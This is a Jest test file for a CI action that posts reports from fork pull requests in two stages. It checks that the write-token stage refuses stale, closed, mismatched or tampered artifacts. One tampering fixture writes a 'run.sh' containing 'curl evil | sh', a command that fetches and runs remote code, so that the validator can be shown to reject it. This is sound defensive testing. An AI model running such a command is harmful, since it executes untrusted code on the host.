// Fork PRs: stage 1 (read-only token) uploads the report bundle with the real @actions/artifact and
// posts nothing; stage 2 (on: workflow_run, write token) downloads it, checks it and posts.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { stickyMarker } from '../../../src/actions/report/report.js';
import { ACTIONS_BOT } from '../../../src/platform/github/marked.js';
import { type FakeGitHub, startFakeGitHub } from '../../harness/fake-github.js';
import { expectSafeGfm } from '../../support/cmark.js';
import { HEAD, PR, runReportStep, type Workspace, workspace } from '../../support/report-run.js';

let fake: FakeGitHub;
let ws: Workspace;
const saved = { ...process.env };

beforeAll(async () => {
  fake = await startFakeGitHub({ repository: 'acme/iris' });
  // @actions/artifact reads the runner's variables from process.env.
  Object.assign(process.env, fake.env(), { GITHUB_SERVER_URL: 'https://github.com' });
});
afterAll(async () => {
  process.env = saved;
  await fake.stop();
});
beforeEach(() => {
  ws = workspace(['bad-validation', 'bad-comparison']);
  process.env.RUNNER_TEMP = join(ws.dir, 'temp');
  process.env.GITHUB_WORKSPACE = ws.dir;
});
afterEach(() => ws.remove());

const forkEvent = () => ({
  number: PR,
  pull_request: { number: PR, head: { sha: HEAD, repo: { full_name: 'mallory/iris' } } },
});
const workflowRun = (pullRequests: number[] = []) => ({
  action: 'completed',
  workflow_run: {
    id: fake.run.id,
    name: 'CI',
    event: 'pull_request',
    head_sha: HEAD,
    pull_requests: pullRequests.map((number) => ({ number })),
  },
});
const restWrites = () => fake.requests.filter((r) => r.path.startsWith('/repos/') && r.method !== 'GET');
const seedPull = (headSha = HEAD, state: 'open' | 'closed' = 'open') => {
  fake.state.pulls.splice(0);
  fake.state.pulls.push({
    repo: fake.repository,
    number: PR,
    headSha,
    headRef: 'feature',
    headRepo: 'mallory/iris',
    baseRef: 'main',
    state,
    user: 'mallory',
    title: 'x',
  });
};
const stage2 = (inputs: Record<string, string> = {}, pullRequests: number[] = []) =>
  runReportStep(fake, ws, {
    event: workflowRun(pullRequests),
    eventName: 'workflow_run',
    job: 'post-report',
    inputs,
  });

describe('fork pull request, two stages', () => {
  test('stage 1 uploads the bundle and succeeds with a notice; stage 2 checks it and posts', async () => {
    const before = fake.requests.length;
    const one = await runReportStep(fake, ws, { event: forkEvent() });
    expect(one.outputs.posted).toBe('summary,artifact');
    expect(one.logs).toContainEqual(
      expect.stringMatching(
        /^notice: fork pull request: the token is read-only.*`mlci-report-[0-9a-f]{12}-1` artifact/,
      ),
    );
    expect(
      fake.requests.slice(before).filter((r) => r.path.startsWith('/repos/') && r.method !== 'GET'),
    ).toEqual([]);
    expect(fake.state.artifacts.filter((a) => a.name.startsWith('mlci-report-') && a.finalized)).toHaveLength(
      1,
    );

    seedPull();
    const two = await stage2();
    expect(two.outputs.posted).toBe('summary,comment,check-run');
    const [comment] = fake.state.comments.filter((c) => c.user === ACTIONS_BOT);
    expect(comment!.issueNumber).toBe(PR);
    // Keyed by stage 1's workflow (from the event) and job (eval), so a rerun of stage 1 updates it.
    expect(comment!.body.trim().split('\n').at(-1)).toBe(stickyMarker('CI', 'eval', ''));
    expect(comment!.body).toMatch(/^## ❌ mlci: fail — [^\n]*\n\n> ⚠️ Rendered from a fork PR's artifact/);
    expectSafeGfm(comment!.body);
    const run = fake.state.checkRuns.find((r) => r.name === 'mlci report');
    expect(run).toMatchObject({ headSha: HEAD, conclusion: 'failure' });

    // A second stage 2 (rerun) updates the same comment.
    await stage2();
    expect(fake.state.comments.filter((c) => c.user === ACTIONS_BOT)).toHaveLength(1);
  });

  test.each([
    [
      'the PR head moved on',
      () => seedPull('9'.repeat(40)),
      {},
      [],
      /PR #7 is open with head 999999999999, the run built feed55555555/,
    ],
    ['the PR is closed', () => seedPull(HEAD, 'closed'), {}, [], /PR #7 is closed/],
    ['the run names another PR', () => seedPull(), {}, [8], /PR #7 is not the triggering run's \(#8\)/],
  ])('stage 2 refuses when %s and posts nothing', async (_name, arrange, inputs, pulls, message) => {
    arrange();
    const before = fake.requests.length;
    await expect(stage2(inputs, pulls)).rejects.toThrow(message);
    expect(
      fake.requests.slice(before).filter((r) => r.path.startsWith('/repos/') && r.method !== 'GET'),
    ).toEqual([]);
  });

  test('a tampered bundle (an extra file, a wrong head SHA) is rejected', async () => {
    const artifact = await import('@actions/artifact');
    const root = join(ws.dir, 'bundle');
    mkdirSync(join(root, 'reports'), { recursive: true });
    const meta = {
      kind: 'mlci/report-bundle',
      version: 1,
      pullRequest: PR,
      headSha: HEAD,
      job: 'eval',
      key: '',
      reports: ['a.json'],
    };
    writeFileSync(
      join(root, 'reports', 'a.json'),
      JSON.stringify({ kind: 'mlci/run-record', version: 1, status: 'passed', stages: [] }),
    );
    writeFileSync(join(root, 'meta.json'), JSON.stringify(meta));
    writeFileSync(join(root, 'run.sh'), 'curl evil | sh');
    const client = new artifact.DefaultArtifactClient();
    await client.uploadArtifact(
      'tampered-extra',
      ['meta.json', 'reports/a.json', 'run.sh'].map((f) => join(root, f)),
      root,
    );
    writeFileSync(join(root, 'meta.json'), JSON.stringify({ ...meta, headSha: 'a'.repeat(40) }));
    await client.uploadArtifact(
      'tampered-sha',
      ['meta.json', 'reports/a.json'].map((f) => join(root, f)),
      root,
    );
    seedPull();
    const writesBefore = restWrites().length;
    await expect(stage2({ 'artifact-name': 'tampered-extra' })).rejects.toThrow(
      /report artifact rejected: unexpected entry "run.sh"/,
    );
    await expect(stage2({ 'artifact-name': 'tampered-sha' })).rejects.toThrow(
      /report artifact rejected: head SHA a{40} is not the triggering run's/,
    );
    expect(restWrites().length).toBe(writesBefore);
  });

  test('two matrix jobs of one fork run: an artifact each, and stage 2 posts a comment each', async () => {
    fake.state.artifacts.splice(0);
    fake.state.comments.splice(0);
    for (const python of ['3.11', '3.12']) {
      const io = await runReportStep(fake, ws, {
        event: forkEvent(),
        inputs: { key: JSON.stringify({ python }) },
      });
      expect(io.outputs.posted).toBe('summary,artifact');
    }
    expect(fake.state.artifacts.filter((a) => a.name.startsWith('mlci-report-'))).toHaveLength(2);
    seedPull();
    const two = await stage2();
    expect(two.outputs.posted).toBe('summary,comment,check-run');
    const comments = fake.state.comments.filter((c) => c.user === ACTIONS_BOT);
    expect(comments.map((c) => c.body.trim().split('\n').at(-1)).sort()).toEqual(
      ['3.11', '3.12'].map((python) => stickyMarker('CI', 'eval', JSON.stringify({ python }))).sort(),
    );
  });

  test('no artifact in the triggering run: a notice, nothing posted, success', async () => {
    const io = await stage2({ 'artifact-name': 'never-uploaded' });
    expect(io.logs).toContainEqual(
      expect.stringMatching(/^notice: run \d+ left no `never-uploaded` artifact/),
    );
    expect(io.outputs.posted).toBe('');
  });
});
